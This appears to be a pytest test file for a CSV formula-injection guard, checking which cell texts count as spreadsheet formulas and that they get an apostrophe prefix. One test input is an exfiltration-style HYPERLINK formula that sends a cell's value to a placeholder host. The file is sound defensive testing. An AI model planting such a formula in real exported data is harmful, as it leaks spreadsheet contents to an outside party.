"""Formula injection: which texts a spreadsheet program would run, and how CSV cells are neutralised."""

from __future__ import annotations

import pytest

from lsoplan.lib.safe_cells import csv_safe, looks_like_formula


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x/?d="&C3,"Läs mer")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_starters_are_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["Räddningstjänsten", "1 234,5", "", " =1", "−3 (minustecken)"])
def test_ordinary_text_is_not_a_formula(text: str) -> None:
    assert not looks_like_formula(text)


def test_csv_cell_with_formula_gets_an_apostrophe() -> None:
    assert csv_safe("=1+1") == "'=1+1"


def test_csv_numbers_pass_unchanged_even_when_negative() -> None:
    assert csv_safe(-3) == -3
    assert csv_safe(2.5) == 2.5


def test_csv_ordinary_text_passes_unchanged() -> None:
    assert csv_safe("Brand i byggnad") == "Brand i byggnad"
